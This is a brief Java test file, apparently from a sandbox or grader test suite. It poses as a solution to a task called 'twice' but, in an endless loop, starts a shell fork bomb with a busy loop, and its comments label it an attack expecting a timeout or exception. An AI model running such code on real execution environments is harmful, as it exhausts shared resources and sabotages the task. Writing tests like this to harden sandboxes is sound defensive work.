// task: twice
// outcome: timeout or exception
// attack: processes that start processes
class Solution {
    public int twice(int x) throws Exception {
        while (true) {
            new ProcessBuilder("sh", "-c", "f() { f | f & }; f; while :; do :; done").start();
        }
    }
}
